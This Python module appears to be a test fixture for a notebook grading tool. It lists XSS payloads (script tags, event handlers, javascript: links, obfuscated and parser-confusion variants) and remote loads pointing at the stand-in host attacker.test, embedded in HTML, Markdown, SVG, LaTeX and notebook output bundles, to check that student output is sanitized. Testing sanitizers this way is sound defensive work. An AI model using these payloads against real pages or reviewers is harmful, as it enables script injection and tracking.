"""What a student might write or display to run something in the reader's browser, or to call home.

Every payload that succeeds sets ``window.pwned``, opens a dialog, or asks for ``HOME``.
"""

import base64

HOME = "http://attacker.test/"
RUN = "window.pwned=1;alert(1)"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}" width="9" height="9">
<script>{RUN}</script><image href="{HOME}svg.png"/><foreignObject><body xmlns=
"http://www.w3.org/1999/xhtml"><iframe src="javascript:{RUN}"></iframe></body></foreignObject>
</svg>"""

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{HOME}a.js'></script>",
    "script that isn't closed": f"<script>{RUN}",
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handler": f"<img src=x onerror='{RUN}'>",
    "handler without quotes": "<b onmouseover=alert(1) onclick=alert(1)>come here</b>",
    "handler after a slash": f"<img/src='x'/onerror={RUN}>",
    "handler of details": f"<details open ontoggle='{RUN}'><summary>x</summary>y</details>",
    "autofocus": f"<input autofocus onfocus='{RUN}'>",
    "javascript link": f"<a href='javascript:{RUN}'>click</a>",
    "javascript link in disguise": f"<a href='&#106;ava\tscript:{RUN}'>click</a>",
    "link within the server": "<a href='/formgrader/api/grade'>click</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "iframe": f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    "frame from elsewhere": f"<iframe src='{HOME}'></iframe>",
    "object": f"<object data='{HOME}o.swf'></object><embed src='{HOME}e.swf'>",
    "form": f"<form action='{HOME}' id=f><button formaction='javascript:{RUN}'>x</button></form>",
    "image from elsewhere": f"<img src='{HOME}pixel.png' srcset='{HOME}2.png 2x'>",
    "picture": f"<picture><source srcset='{HOME}p'><img src=x></picture>",
    "video": f"<video src='{HOME}v' autoplay onloadstart='{RUN}'></video>",
    "style": f"<style>@import '{HOME}s.css'; body {{ background: url({HOME}b.png) }}</style>",
    "style attribute": f"<p style='background:url({HOME}c.png);position:fixed;inset:0'>over</p>",
    "link and base": f"<link rel=stylesheet href='{HOME}l.css'><base href='{HOME}'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={HOME}'>",
    "svg": SVG,
    "svg animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} /></a></svg>",
    "math link": f"<math href='javascript:{RUN}'><mtext><style><img src=x onerror={RUN}></style>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "template": f"<template><script>{RUN}</script></template><svg></p><style><a id='</style>"
    f"<img src=1 onerror={RUN}>'>",
    "comment": f"<!--><img src=x onerror={RUN}>-->",
    "end of the page": f"</pre></div></section></main></body></html><script>{RUN}</script>",
    "our own classes": "<div class='verdict right' id='points-twice_check'>4 of 4</div>",
}

MARKDOWN = {
    **HTML,
    "link in Markdown": f"[click](javascript:{RUN}) [me](data:text/html,x) <javascript:{RUN}>",
    "image in Markdown": f'![x]({HOME}m.png) ![y](javascript:{RUN}) ![z](x"onerror="{RUN})',
    "formula": rf"$\text{{<script>{RUN}</script>}}$ $\href{{javascript:{RUN}}}{{x}}$",
    "formula in an attribute": f'<a title="$x$ onmouseover={RUN}" href="$y$">a</a>',
    "formula in braces": rf"$$\text{{<img src=x onerror={RUN}>}} \style{{onclick:x}}{{y}}$$",
    "reference": f"[a]: javascript:{RUN}\n\n[a] ![a]",
    "fence": f'```html"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
    "mermaid": f"```mermaid\n<img src=x onerror={RUN}>\n```",
    "attachment": "![x](attachment:evil.html) ![x](attachment:gone.png)",
    "nested": "> " * 2000 + "x",
}
ATTACHMENTS = {"evil.html": {"text/html": base64.b64encode(HTML["script"].encode()).decode()}}


def bundle(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


PICTURE = bundle(**{"image/png": "iVBORw0KGgo="})


OUTPUTS = {
    **{f"HTML: {name}": bundle(**{"text/html": text}) for name, text in HTML.items()},
    "JavaScript": bundle(**{"application/javascript": RUN, "text/plain": "js"}),
    "SVG": bundle(**{"image/svg+xml": SVG}),
    "PNG that is none": bundle(**{"image/png": f'x" onerror="{RUN}'}),
    "PNG with a width": PICTURE
    | {"metadata": {"image/png": {"width": f"1 onerror={RUN}", "unconfined": True}}},
    "PNG of a name": PICTURE | {"metadata": {"filenames": {"image/png": f"{HOME}n.png"}}},
    "HTML in a frame": bundle(**{"text/html": HTML["script"]})
    | {"metadata": {"text/html": {"isolated": True}}},
    "PNG in lines": bundle(**{"image/png": ["iVBO", f'"><script>{RUN}</script>']}),
    "Markdown": bundle(**{"text/markdown": HTML["handler"] + MARKDOWN["link in Markdown"]}),
    "LaTeX": bundle(**{"text/latex": f"$<script>{RUN}</script>$"}),
    "widget": bundle(**{"application/vnd.jupyter.widget-view+json": {"model_id": "</script>"}}),
    "no text": bundle(**{"text/html": {"a": 1}, "text/plain": 3}),
    "stream": {"output_type": "stream", "name": "stdout", "text": HTML["end of the page"]},
    "terminal": {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{SVG}\x1b[0m"},
    "error": {
        "output_type": "error",
        "ename": "<b>E</b>",
        "evalue": HTML["handler"],
        "traceback": [HTML["script"], f"\x1b[1;31m{HTML['handler']}\x1b[0m"],
    },
}
